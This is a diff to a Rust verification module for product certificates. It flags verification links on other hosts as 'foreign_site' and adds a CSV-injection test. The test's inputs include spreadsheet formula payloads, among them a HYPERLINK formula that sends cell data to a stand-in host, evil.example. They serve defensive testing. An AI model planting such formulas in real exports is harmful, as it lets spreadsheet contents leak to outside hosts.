@@ -7,12 +7,20 @@
 //! The wire types of the request and the report are here, shared by the verifier's
 //! `POST /api/v1/verify` and the CLI's `nanotrace verify --manifest`; with feature `csv`,
 //! the same as CSV.
+//!
+//! A check answers for one verifier ([`OwnSite`]): a verification URL of another site is
+//! `foreign_site`, never `valid`; a GS1 Digital Link URI on another host is checked by its
+//! GS1 keys, and its report names that host ([`site`]).
 
 use crate::digital_link::{DigitalLink, DigitalLinkError};
 use crate::token::OfflineToken;
 use crate::validate::{self, ValidationError};
 use crate::{preferred_for_lot, Certificate, IssuerKey, Verdict, Verification};
 use serde::{Deserialize, Serialize};
+use url::Origin;
+
+pub mod site;
+pub use site::OwnSite;
 
 /// Items in one consignment check, at most.
 pub const MAX_ITEMS: usize = 1000;
@@ -34,9 +42,16 @@ pub enum ItemRef {
         id: String,
         /// The offline token, to check against the trust list.
         token: Option<String>,
+        /// The site (scheme, host, port) the URL is on.
+        origin: Origin,
     },
     /// A product lot by its GS1 identification (Digital Link URI or element string).
-    Product(DigitalLink),
+    Product {
+        /// The GS1 keys.
+        link: DigitalLink,
+        /// The site a Digital Link URI is on (none for an element string).
+        origin: Option<Origin>,
+    },
 }
 
 /// Why an item names nothing that can be checked.
@@ -83,7 +98,9 @@ impl ItemRef {
             return parse_url(text);
         }
         if text.starts_with('(') || text.starts_with(']') || text.starts_with("01") || text.starts_with('\u{1d}') {
-            return DigitalLink::parse_element_string(text).map(ItemRef::Product).map_err(ItemError::Gs1);
+            return DigitalLink::parse_element_string(text)
+                .map(|link| ItemRef::Product { link, origin: None })
+                .map_err(ItemError::Gs1);
         }
         Err(ItemError::Unrecognised)
     }
@@ -96,11 +113,13 @@ fn parse_url(text: &str) -> Result<ItemRef, ItemError> {
     if let Some(id) = path.rsplit_once("/c/").map(|(_, id)| id).filter(|id| !id.contains('/')) {
         validate::certificate_id("the URL's certificate", id).map_err(ItemError::CertificateId)?;
         let token = url.query_pairs().find(|(k, _)| k == "t").map(|(_, v)| v.into_owned());
-        return Ok(ItemRef::Link { id: id.to_owned(), token });
+        return Ok(ItemRef::Link { id: id.to_owned(), token, origin: url.origin() });
     }
     // A Digital Link URI may have a path before its primary key (GS1 allows a prefix).
     if let Some(at) = path.find("/01/") {
-        return DigitalLink::parse(&path[at..]).map(ItemRef::Product).map_err(ItemError::Gs1);
+        return DigitalLink::parse(&path[at..])
+            .map(|link| ItemRef::Product { link, origin: Some(url.origin()) })
+            .map_err(ItemError::Gs1);
     }
     Err(ItemError::Url("a URL that is neither a verification page (…/c/NT-…) nor a GS1 Digital Link (…/01/…)".into()))
 }
@@ -124,15 +143,19 @@ pub enum Outcome {
     /// The item could not be checked: malformed, or the verifier cannot vouch for its
     /// data now (UNVERIFIABLE).
     Error,
+    /// A verification URL of another site (not this verifier's scheme, host and port):
+    /// whatever that site's page shows is not this verifier's answer ([`site`]).
+    ForeignSite,
 }
 
 impl Outcome {
-    /// `valid`, `not_valid`, `error`.
+    /// `valid`, `not_valid`, `error`, `foreign_site`.
     pub fn as_str(self) -> &'static str {
         match self {
             Outcome::Valid => "valid",
             Outcome::NotValid => "not_valid",
             Outcome::Error => "error",
+            Outcome::ForeignSite => "foreign_site",
         }
     }
 }
@@ -167,11 +190,13 @@ pub enum Problem {
     NoLot,
     /// The verifier cannot vouch for its data now.
     Unverifiable,
+    /// A verification URL of another site ([`Outcome::ForeignSite`]).
+    ForeignSite,
 }
 
 impl Problem {
     /// Every problem.
-    pub const ALL: [Problem; 12] = [
+    pub const ALL: [Problem; 13] = [
         Problem::Malformed,
         Problem::NotFound,
         Problem::NotIssued,
@@ -184,6 +209,7 @@ impl Problem {
         Problem::LotNotCertified,
         Problem::NoLot,
         Problem::Unverifiable,
+        Problem::ForeignSite,
     ];
 
     /// The problem a verdict other than VALID is.
@@ -216,6 +242,7 @@ impl Problem {
             Problem::LotNotCertified => "lot_not_certified",
             Problem::NoLot => "no_lot",
             Problem::Unverifiable => "unverifiable",
+            Problem::ForeignSite => "foreign_site",
         }
     }
 
@@ -223,6 +250,7 @@ impl Problem {
     pub fn outcome(self) -> Outcome {
         match self {
             Problem::Malformed | Problem::Unverifiable => Outcome::Error,
+            Problem::ForeignSite => Outcome::ForeignSite,
             _ => Outcome::NotValid,
         }
     }
@@ -248,6 +276,11 @@ pub struct ItemReport {
     pub problem: Option<Problem>,
     /// In words.
     pub reason: String,
+    /// The other site (`scheme://host[:port]`) the item's URL is on, when it is not this
+    /// verifier's: a verification URL's (outcome `foreign_site`) or a Digital Link URI's
+    /// (checked by its GS1 keys).
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub foreign_site: Option<String>,
 }
 
 impl ItemReport {
@@ -261,6 +294,26 @@ impl ItemReport {
             certificate_id: None,
             problem: Some(Problem::Malformed),
             reason: error.to_string(),
+            foreign_site: None,
+        }
+    }
+
+    /// The answer for a verification URL of another site, `site`, naming certificate `id`:
+    /// not checked here, and never valid.
+    pub fn foreign(index: usize, input: &str, id: &str, site: String, own: &OwnSite) -> ItemReport {
+        ItemReport {
+            index,
+            input: input.to_owned(),
+            outcome: Outcome::ForeignSite,
+            verdict: None,
+            certificate_id: Some(id.to_owned()),
+            problem: Some(Problem::ForeignSite),
+            reason: format!(
+                "a verification page of another site, {site}, not of this verifier ({}): what that site shows \
+                 is not this verifier's answer; look {id} up here",
+                own.shown()
+            ),
+            foreign_site: Some(site),
         }
     }
 
@@ -283,6 +336,7 @@ impl ItemReport {
             certificate_id: id.map(str::to_owned),
             problem,
             reason: reason.to_owned(),
+            foreign_site: None,
         }
     }
 }
@@ -298,6 +352,9 @@ pub struct Summary {
     pub not_valid: usize,
     /// Could not be checked.
     pub errors: usize,
+    /// Verification URLs of another site.
+    #[serde(default)]
+    pub foreign_site: usize,
 }
 
 /// The answer to a consignment check.
@@ -324,6 +381,7 @@ impl ConsignmentReport {
                 Outcome::Valid => summary.valid += 1,
                 Outcome::NotValid => summary.not_valid += 1,
                 Outcome::Error => summary.errors += 1,
+                Outcome::ForeignSite => summary.foreign_site += 1,
             }
         }
         ConsignmentReport { checked_at, ledger_block, summary, items }
@@ -345,39 +403,80 @@ pub trait Source {
     fn staleness(&self, at: i64) -> Option<String>;
 }
 
-/// Checks `items` at time `at` against `source`; `ledger_block` is the block the source
-/// has reached.
-pub fn check<S: Source>(source: &S, items: &[String], at: i64, ledger_block: Option<u64>) -> ConsignmentReport {
+/// Checks `items` at time `at` against `source`, for the verifier whose site is `site`;
+/// `ledger_block` is the block the source has reached.
+pub fn check<S: Source>(
+    source: &S,
+    site: &OwnSite,
+    items: &[String],
+    at: i64,
+    ledger_block: Option<u64>,
+) -> ConsignmentReport {
     let issuers = source.issuers();
     // Asked once: a list is answered from one state of the source.
     let stale = source.staleness(at);
     let reports = items
         .iter()
         .enumerate()
-        .map(|(index, input)| check_item(source, &issuers, stale.as_deref(), index, input, at))
+        .map(|(index, input)| {
+            check_item(&Against { source, site, issuers: &issuers, stale: stale.as_deref(), at }, index, input)
+        })
         .collect();
     ConsignmentReport::new(at, ledger_block, reports)
 }
 
-/// One item's answer.
-fn check_item<S: Source>(
-    source: &S,
-    issuers: &Result<Vec<IssuerKey>, String>,
-    stale: Option<&str>,
-    index: usize,
-    input: &str,
+/// What every item of a list is checked against.
+struct Against<'a, S> {
+    /// The ledger.
+    source: &'a S,
+    /// This verifier's site.
+    site: &'a OwnSite,
+    /// The trust list, or why it cannot be read.
+    issuers: &'a Result<Vec<IssuerKey>, String>,
+    /// Why the source cannot vouch for its data (None: it can).
+    stale: Option<&'a str>,
+    /// The time of the check.
     at: i64,
-) -> ItemReport {
+}
+
+/// One item's answer.
+fn check_item<S: Source>(c: &Against<'_, S>, index: usize, input: &str) -> ItemReport {
+    let site = c.site;
     let parsed = match ItemRef::parse(input) {
         Ok(parsed) => parsed,
         Err(e) => return ItemReport::malformed(index, input, &e),
     };
+    let other = match &parsed {
+        ItemRef::Link { origin, .. } | ItemRef::Product { origin: Some(origin), .. } => site.other(origin),
+        _ => None,
+    };
+    // Another site's verification page is not checked here, even from a stale copy.
+    if let (ItemRef::Link { id, .. }, Some(other)) = (&parsed, &other) {
+        return ItemReport::foreign(index, input, id, other.clone(), site);
+    }
+    let mut report = check_parsed(c, index, input, parsed);
+    // A Digital Link URI on another host: its GS1 keys were checked, and the report says
+    // the host is not this verifier.
+    if let Some(other) = other {
+        report.reason = format!(
+            "{} (the Digital Link is on another site, {other}, not this verifier: this answer is for its GS1 keys, \
+             not for what that site shows)",
+            report.reason
+        );
+        report.foreign_site = Some(other);
+    }
+    report
+}
+
+/// The answer for an item read as `parsed` (its site already weighed).
+fn check_parsed<S: Source>(c: &Against<'_, S>, index: usize, input: &str, parsed: ItemRef) -> ItemReport {
+    let (source, issuers, stale, at) = (c.source, c.issuers, c.stale, c.at);
     let unverifiable =
         |id: Option<&str>, why: &str| ItemReport::resolved(index, input, id, Verdict::Unverifiable, None, why);
     if let Some(why) = stale {
         let id = match &parsed {
             ItemRef::Certificate { id } | ItemRef::Link { id, .. } => Some(id.as_str()),
-            ItemRef::Product(_) => None,
+            ItemRef::Product { .. } => None,
         };
         return unverifiable(id, why);
     }
@@ -392,8 +491,8 @@ fn check_item<S: Source>(
         Err(why) => unverifiable(Some(id), &why),
     };
     match parsed {
-        ItemRef::Certificate { id } | ItemRef::Link { id, token: None } => certificate(&id, None),
-        ItemRef::Link { id, token: Some(token) } => {
+        ItemRef::Certificate { id } | ItemRef::Link { id, token: None, .. } => certificate(&id, None),
+        ItemRef::Link { id, token: Some(token), .. } => {
             let problem = match (OfflineToken::decode(&token), issuers) {
                 (Err(e), _) => Some(format!("the offline token is invalid: {e}")),
                 (Ok(t), _) if t.certificate_id != id => {
@@ -406,7 +505,7 @@ fn check_item<S: Source>(
             };
             certificate(&id, problem)
         }
-        ItemRef::Product(link) => {
+        ItemRef::Product { link, .. } => {
             let Some(lot) = link.lot.as_deref() else {
                 return ItemReport::resolved(
                     index,
@@ -441,69 +540,7 @@ fn check_item<S: Source>(
 
 /// Reading a list from CSV and writing a report as CSV (feature `csv`).
 #[cfg(feature = "csv")]
-pub mod csv_format {
-    use super::ItemReport;
-
-    /// The report's CSV columns.
-    pub const HEADER: [&str; 7] = ["index", "input", "outcome", "verdict", "certificate_id", "problem", "reason"];
-
-    /// Why a CSV list cannot be read.
-    #[derive(Debug, thiserror::Error)]
-    pub enum CsvError {
-        /// Not CSV (a quote not closed, not UTF-8…), with the line.
-        #[error("line {line}: {message}")]
-        Syntax {
-            /// The line (from 1).
-            line: u64,
-            /// What the CSV reader said.
-            message: String,
-        },
-    }
-
-    /// The items of a CSV list: the first field of each record, blank records skipped, a
-    /// first record `item` (any case) taken as a header.
-    pub fn read_items(text: &[u8]) -> Result<Vec<String>, CsvError> {
-        let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text);
-        let mut items = Vec::new();
-        for (n, record) in reader.records().enumerate() {
-            let record = record.map_err(|e| CsvError::Syntax {
-                line: e.position().map_or(0, csv::Position::line),
-                message: e.to_string(),
-            })?;
-            let first = record.get(0).unwrap_or("").trim();
-            if n == 0 && first.eq_ignore_ascii_case("item") {
-                continue;
-            }
-            if record.iter().all(|f| f.trim().is_empty()) {
-                continue;
-            }
-            items.push(first.to_owned());
-        }
-        Ok(items)
-    }
-
-    /// The report's items as CSV ([`HEADER`] first).
-    pub fn write_report(items: &[ItemReport]) -> Vec<u8> {
-        let mut writer = csv::Writer::from_writer(Vec::new());
-        let mut rows = vec![HEADER.map(str::to_owned).to_vec()];
-        for i in items {
-            rows.push(vec![
-                i.index.to_string(),
-                i.input.clone(),
-                i.outcome.as_str().to_owned(),
-                i.verdict.map(|v| v.as_str().to_owned()).unwrap_or_default(),
-                i.certificate_id.clone().unwrap_or_default(),
-                i.problem.map(|p| p.as_str().to_owned()).unwrap_or_default(),
-                i.reason.clone(),
-            ]);
-        }
-        for row in rows {
-            // Writing to memory fails only if the row is malformed, which these are not.
-            let _ = writer.write_record(&row);
-        }
-        writer.into_inner().unwrap_or_default()
-    }
-}
+pub mod csv_format;
 
 #[cfg(test)]
 mod tests {
@@ -511,25 +548,31 @@ mod tests {
 
     const GTIN: &str = "04006381333931";
 
+    fn origin(url: &str) -> Origin {
+        url::Url::parse(url).expect("URL").origin()
+    }
+
     #[test]
     fn every_form_of_item() {
         let id = "NT-ABCDEFGHIJK2";
+        let verify = || origin("https://verify.example");
         assert_eq!(ItemRef::parse(&format!("  {id} ")), Ok(ItemRef::Certificate { id: id.into() }));
         assert_eq!(
             ItemRef::parse(&format!("https://verify.example/c/{id}?t=TOKEN")),
-            Ok(ItemRef::Link { id: id.into(), token: Some("TOKEN".into()) })
+            Ok(ItemRef::Link { id: id.into(), token: Some("TOKEN".into()), origin: verify() })
         );
         assert_eq!(
             ItemRef::parse(&format!("https://verify.example/c/{id}")),
-            Ok(ItemRef::Link { id: id.into(), token: None })
+            Ok(ItemRef::Link { id: id.into(), token: None, origin: verify() })
         );
         let product = |lot: &str| DigitalLink { gtin: GTIN.into(), cpv: None, lot: Some(lot.into()), serial: None };
         assert_eq!(
             ItemRef::parse(&format!("https://id.example/shop/01/{GTIN}/10/L%201")),
-            Ok(ItemRef::Product(product("L 1")))
+            Ok(ItemRef::Product { link: product("L 1"), origin: Some(origin("https://id.example")) })
         );
-        assert_eq!(ItemRef::parse(&format!("(01){GTIN}(10)L1")), Ok(ItemRef::Product(product("L1"))));
-        assert_eq!(ItemRef::parse(&format!("]d201{GTIN}10L1")), Ok(ItemRef::Product(product("L1"))));
+        let element = || Ok(ItemRef::Product { link: product("L1"), origin: None });
+        assert_eq!(ItemRef::parse(&format!("(01){GTIN}(10)L1")), element());
+        assert_eq!(ItemRef::parse(&format!("]d201{GTIN}10L1")), element());
     }
 
     #[test]
@@ -560,7 +603,7 @@ mod tests {
             ItemReport::resolved(4, "e", None, Verdict::Unverifiable, None, "stale"),
         ];
         let report = ConsignmentReport::new(1, Some(2), items);
-        assert_eq!(report.summary, Summary { total: 5, valid: 1, not_valid: 2, errors: 2 });
+        assert_eq!(report.summary, Summary { total: 5, valid: 1, not_valid: 2, errors: 2, foreign_site: 0 });
         assert_eq!(report.items[2].outcome, Outcome::NotValid, "a VALID certificate behind a bad token is not valid");
         let json = serde_json::to_value(&report).expect("json");
         assert_eq!(json["items"][1]["problem"], "revoked");
@@ -576,6 +619,77 @@ mod tests {
         assert!(err.starts_with("line 2:"), "{err}");
         let out = csv_format::write_report(&[ItemReport::malformed(0, "x,y", &ItemError::Empty)]);
         let text = String::from_utf8(out).expect("utf-8");
-        assert_eq!(text, "index,input,outcome,verdict,certificate_id,problem,reason\n0,\"x,y\",error,,,malformed,the item is empty\n");
+        assert_eq!(
+            text,
+            "\"index\",\"input\",\"outcome\",\"verdict\",\"certificate_id\",\"problem\",\"reason\",\"foreign_site\"\n\
+             \"0\",\"x,y\",\"error\",\"\",\"\",\"malformed\",\"the item is empty\",\"\"\n"
+        );
+    }
+
+    /// CSV injection (issue 71): an item that a spreadsheet would run as a formula comes
+    /// back in the CSV report as text — every cell that starts with `=`, `+`, `-`, `@`, TAB
+    /// or CR (or has one after a character a spreadsheet may split cells on) gets a `'`
+    /// before it, every cell is quoted — while the JSON report keeps the item as given.
+    #[cfg(feature = "csv")]
+    #[test]
+    fn csv_report_cells_are_never_formulas() {
+        let formulas = [
+            (
+                "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Verify\")",
+                "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Verify\")",
+            ),
+            ("+1+1", "'+1+1"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+            ("\t=1+1", "'\t'=1+1"),
+            ("\r=1+1", "'\r'=1+1"),
+            ("NT-A;=1+1", "NT-A;'=1+1"),
+            ("NT-A,@cmd", "NT-A,'@cmd"),
+            ("NT-A\t-1", "NT-A\t'-1"),
+            ("NT-A\n=1+1", "NT-A\n'=1+1"),
+        ];
+        let mut all: Vec<ItemReport> = formulas
+            .iter()
+            .enumerate()
+            .map(|(i, (text, _))| ItemReport::malformed(i, text, &ItemError::Unrecognised))
+            .collect();
+        all.push(ItemReport::resolved(
+            10,
+            "NT-B",
+            Some("NT-B"),
+            Verdict::Revoked,
+            None,
+            "=1+1 (the certifier's words)",
+        ));
+        let out = csv_format::write_report(&all);
+        let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(&out[..]);
+        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("CSV")).collect();
+        assert_eq!(rows.len(), all.len());
+        for (row, (given, written)) in rows.iter().zip(formulas) {
+            assert_eq!(row.get(1), Some(written), "{given:?}");
+        }
+        assert_eq!(rows[10].get(6), Some("'=1+1 (the certifier's words)"));
+        for row in &rows {
+            for cell in row {
+                let mut starts = vec![cell];
+                starts.extend(cell.split([',', ';', '\t', '\r', '\n']).skip(1));
+                for start in starts {
+                    assert!(
+                        !start.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "a formula cell: {cell:?} in {row:?}"
+                    );
+                }
+            }
+        }
+        let text = String::from_utf8(out).expect("UTF-8");
+        assert!(
+            text.ends_with(
+                "\"10\",\"NT-B\",\"not_valid\",\"REVOKED\",\"NT-B\",\"revoked\",\"'=1+1 (the certifier's words)\",\"\"\n"
+            ),
+            "every cell quoted: {text}"
+        );
+        // The JSON report says what was given.
+        let json = serde_json::to_value(&all[0]).expect("json");
+        assert_eq!(json["input"], formulas[0].0);
     }
 }
